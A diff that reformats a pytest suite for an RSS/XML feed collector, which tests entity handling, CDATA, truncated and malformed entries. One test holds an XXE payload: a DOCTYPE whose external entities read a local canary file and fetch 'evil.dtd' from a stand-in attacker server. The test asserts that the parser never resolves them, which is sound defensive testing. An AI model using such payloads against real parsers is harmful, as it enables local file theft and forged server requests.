@@ -29,14 +29,19 @@ Collect = Callable[..., tuple[SourceRun, Counter[str]]]
 
 
 def _rss(*items: str, doctype: str = "") -> bytes:
-    return (f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<rss version="2.0"><channel><title>t</title>'
-            + "".join(items) + "</channel></rss>").encode()
+    return (
+        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<rss version="2.0"><channel><title>t</title>'
+        + "".join(items)
+        + "</channel></rss>"
+    ).encode()
 
 
 def _item(guid: str, title: str = "A title", *, link: str | None = None, description: str = "summary") -> str:
     link_xml = f"<link>{link}</link>" if link else ""
-    return (f'<item><title>{title}</title><guid isPermaLink="false">{guid}</guid>{link_xml}'
-            f"<pubDate>Wed, 15 Apr 2026 09:00:00 +0000</pubDate><description>{description}</description></item>")
+    return (
+        f'<item><title>{title}</title><guid isPermaLink="false">{guid}</guid>{link_xml}'
+        f"<pubDate>Wed, 15 Apr 2026 09:00:00 +0000</pubDate><description>{description}</description></item>"
+    )
 
 
 @pytest.fixture(scope="module")
@@ -51,8 +56,9 @@ def collect(server: Scripted, request: pytest.FixtureRequest) -> Collect:
     calls = iter(range(1000))
     test_path = "/" + re.sub(r"\W", "-", request.node.name)
 
-    def run_once(body: bytes, *, name: str = "f", cursor: SourceCursor | None = None,
-                 pages: dict[str, bytes] | None = None) -> tuple[SourceRun, Counter[str]]:
+    def run_once(
+        body: bytes, *, name: str = "f", cursor: SourceCursor | None = None, pages: dict[str, bytes] | None = None
+    ) -> tuple[SourceRun, Counter[str]]:
         """One collect of a feed served on 127.0.0.1; returns the run and the server's hits for this call."""
         prefix = f"{test_path}/{next(calls)}"
         server.responses[f"{prefix}/f.xml"] = [(200, RSS, body)]
@@ -99,7 +105,7 @@ def test_html_named_entities_without_a_dtd_are_characters(collect: Collect) -> N
 def test_unknown_entities_stay_literal_and_cdata_is_untouched(collect: Collect) -> None:
     body = _rss(
         _item("u", "Ben &jerrys; ice"),
-        '<item><guid>cd</guid><title>cdata</title><description><![CDATA[raw &nbsp; &bogus; & <b>x</b>]]>'
+        "<item><guid>cd</guid><title>cdata</title><description><![CDATA[raw &nbsp; &bogus; & <b>x</b>]]>"
         "</description></item>",
     )
     posts = _posts(collect(body)[0])
@@ -118,8 +124,11 @@ def test_dtd_subset_with_unused_entity_keeps_every_entry(collect: Collect) -> No
 
 
 def test_an_entry_using_a_declared_entity_is_refused_not_expanded(collect: Collect) -> None:
-    body = _rss(_item("plain", "Plain &nbsp;news"), _item("uses", "By &co;"),
-                doctype='<!DOCTYPE rss [\n  <!ENTITY co "Company">\n  <!ENTITY nbsp "&#160;">\n]>')
+    body = _rss(
+        _item("plain", "Plain &nbsp;news"),
+        _item("uses", "By &co;"),
+        doctype='<!DOCTYPE rss [\n  <!ENTITY co "Company">\n  <!ENTITY nbsp "&#160;">\n]>',
+    )
     run, _ = collect(body)
     posts = _posts(run)
     assert set(posts) == {"plain"} and posts["plain"].title == "Plain \u00a0news"
@@ -132,12 +141,19 @@ def test_xxe_and_external_dtds_stay_inert_while_other_entries_are_kept(collect: 
     canary = tmp_path / "canary.txt"
     canary.write_text(secret)
     with scripted_server({}) as attacker:
-        doctype = (f'<!DOCTYPE rss SYSTEM "{attacker.base_url}/outer.dtd" [\n'
-                   f'  <!ENTITY file SYSTEM "file://{canary}">\n'
-                   f'  <!ENTITY web SYSTEM "{attacker.base_url}/entity">\n'
-                   f'  <!ENTITY % ext SYSTEM "{attacker.base_url}/evil.dtd">\n  %ext;\n]>')
-        body = _rss(_item("file", "&file;"), _item("web", "x", description="&web;"),
-                    _item("exfil", "&exfil;"), _item("clean", "Clean entry"), doctype=doctype)
+        doctype = (
+            f'<!DOCTYPE rss SYSTEM "{attacker.base_url}/outer.dtd" [\n'
+            f'  <!ENTITY file SYSTEM "file://{canary}">\n'
+            f'  <!ENTITY web SYSTEM "{attacker.base_url}/entity">\n'
+            f'  <!ENTITY % ext SYSTEM "{attacker.base_url}/evil.dtd">\n  %ext;\n]>'
+        )
+        body = _rss(
+            _item("file", "&file;"),
+            _item("web", "x", description="&web;"),
+            _item("exfil", "&exfil;"),
+            _item("clean", "Clean entry"),
+            doctype=doctype,
+        )
         run, _ = collect(body)
         assert sum(attacker.hits.values()) == 0  # no DTD, no entity URL was ever requested
     assert set(_posts(run)) == {"clean"}
@@ -216,8 +232,10 @@ def test_the_damaged_entry_is_kept_too(collect: Collect, title: str, expected: s
 
 
 def test_wrong_closing_tag_keeps_the_entry(collect: Collect) -> None:
-    damaged = ("<item><title>Wrong close</title><guid>w</guid><link>https://example.com/w</link>"
-               "<description>text</descriptio></item>")
+    damaged = (
+        "<item><title>Wrong close</title><guid>w</guid><link>https://example.com/w</link>"
+        "<description>text</descriptio></item>"
+    )
     run, _ = collect(_rss(_item("before", "Before"), damaged, _item("after", "After")))
     posts = _posts(run)
     assert set(posts) == {"before", "w", "after"}
@@ -235,9 +253,11 @@ def test_unclosed_inline_tag_does_not_swallow_its_entry(collect: Collect) -> Non
 
 
 def test_truncated_last_entry_with_title_and_link_is_kept_and_its_page_fetched(collect: Collect) -> None:
-    body = (_rss(_item("1", "Complete")).rsplit(b"</channel>", 1)[0]
-            + b"<item><title>Cut short</title><link>article.html</link><guid>2</guid>"
-              b"<description>This text stops in the mid")
+    body = (
+        _rss(_item("1", "Complete")).rsplit(b"</channel>", 1)[0]
+        + b"<item><title>Cut short</title><link>article.html</link><guid>2</guid>"
+        b"<description>This text stops in the mid"
+    )
     page = b'<html lang="en"><head><title>The article</title></head><body><p>Full text.</p></body></html>'
     run, hits = collect(body, pages={"/article.html": page})
     posts = _posts(run)
@@ -247,7 +267,8 @@ def test_truncated_last_entry_with_title_and_link_is_kept_and_its_page_fetched(c
     pages = [e for e in run.envelopes if isinstance(e, RawPage)]
     assert [p.linked_from for p in pages] == [scoped_key("f", "2")]
     assert _reasons(run) == [
-        "xml: feed truncated inside an entry: its complete fields were kept, this unfinished part was not"]
+        "xml: feed truncated inside an entry: its complete fields were kept, this unfinished part was not"
+    ]
     assert b"stops in the mid" in run.dead_letters[0].original
 
 
@@ -296,7 +317,9 @@ def test_a_refetch_of_keyless_items_dedupes(collect: Collect) -> None:
 
 
 def test_repairs_leave_a_well_formed_document_unchanged() -> None:
-    text = ('<?xml version="1.0"?><rss><channel><item><title>a &amp; b &lt;c&gt; &#233; &#x1F600;</title>'
-            "<description><![CDATA[<p>x & y</p>]]></description><!-- & < --></item></channel></rss>")
+    text = (
+        '<?xml version="1.0"?><rss><channel><item><title>a &amp; b &lt;c&gt; &#233; &#x1F600;</title>'
+        "<description><![CDATA[<p>x & y</p>]]></description><!-- & < --></item></channel></rss>"
+    )
     prepared = prepare_document(text)
     assert prepared.text == text and not prepared.describe()
